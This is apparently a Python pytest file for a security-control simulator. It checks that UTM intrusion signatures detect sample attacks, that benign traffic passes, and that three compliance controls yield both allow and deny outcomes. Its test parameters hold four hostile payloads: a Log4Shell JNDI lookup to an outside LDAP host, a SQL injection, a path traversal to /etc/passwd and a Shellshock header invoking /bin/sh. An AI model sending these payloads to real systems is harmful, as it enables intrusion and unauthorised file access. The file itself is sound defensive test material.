"""PF-005 (UTM), PF-006 (host compliance) and LOG-008 (linkage records): the signatures the UTM knows, and the
scenarios that prove each control both ways, run through the real runner in one profile each."""

from __future__ import annotations

from pathlib import Path

import pytest

from simulator.components.platform import INTRUSION_SIGNATURES
from simulator.controls.catalogue import project_root
from simulator.verify.runner import TemplateCache, run_scenario
from simulator.verify.scenario import load_scenario

SCENARIOS = project_root() / "scenarios" / "verify"


@pytest.mark.parametrize(
    ("payload", "rule"),
    [
        ("GET /?q=${jndi:ldap://203.0.113.9/a}", "jndi_lookup"),
        ("name=' OR 1=1 --", "sql_injection"),
        ("GET /../../etc/passwd", "path_traversal"),
        ("User-Agent: () { :; }; /bin/sh", "shellshock"),
    ],
)
def test_known_exploits_match_their_signature(payload: str, rule: str) -> None:
    assert INTRUSION_SIGNATURES[rule].search(payload)


def test_ordinary_traffic_matches_no_signature() -> None:
    body = '{"query_id": "q-1", "row": "94", "items": ["resident_info"], "business": "ltc"}'
    assert not any(p.search(body) for p in INTRUSION_SIGNATURES.values())


@pytest.mark.slow
@pytest.mark.parametrize(
    ("path", "profile", "control"),
    [
        ("pf/pf-005-utm.yaml", "iizuka", "PF-005"),
        ("pf/pf-006-host-compliance.yaml", "iizuka", "PF-006"),
        ("log/log-008-linkage-records.yaml", "sapporo", "LOG-008"),
    ],
)
def test_control_is_proved_both_ways(tmp_path: Path, path: str, profile: str, control: str) -> None:
    result = run_scenario(load_scenario(SCENARIOS / path), TemplateCache(tmp_path), profile)
    assert result.passed, result.failures
    outcomes = {str(d.outcome) for d in result.decisions if d.control_id == control}
    assert "allow" in outcomes and "deny" in outcomes
